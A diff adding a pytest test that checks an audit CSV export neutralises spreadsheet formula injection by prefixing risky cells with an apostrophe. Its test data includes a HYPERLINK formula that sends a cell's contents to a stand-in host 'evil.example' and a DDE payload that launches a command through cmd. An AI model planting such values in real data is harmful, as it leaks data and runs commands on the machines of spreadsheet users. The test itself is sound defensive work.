@@ -327,6 +327,23 @@ def test_audit_page_filters_and_csv_export(client, supervisor, review_case):
     assert AuditEvent.objects.filter(action="audit.exported", actor=supervisor).exists()
 
 
+@pytest.mark.parametrize("evil", ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1,2)", "\tleading tab", "\rleading CR"])
+def test_the_audit_csv_neutralises_formulas_in_every_cell(client, supervisor, evil):
+    """Issue 17, item 10: a partner's case reference ``=HYPERLINK(...)`` was exported raw, and a
+    spreadsheet opening audit.csv ran it. Every such cell now starts with ``'`` (OWASP)."""
+    case = Case.objects.create(kind="selfie", reference=evil)
+    AuditEvent.objects.create(actor_label=evil, action="case.opened", case=case, details={"kind": "selfie"})
+    staff_login(client, supervisor)
+
+    response = client.get(_url("audit_csv") + f"?case={case.public_id}")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    row = next(r for r in rows[1:] if r[2] == "case.opened")
+    assert row[1] == "'" + evil and row[4] == "'" + evil
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+
+
 def test_a_supervisor_assigns_a_case_to_a_reviewer_and_a_reviewer_cannot(client, review_case):
     from tests.dashboard.conftest import role_user
 
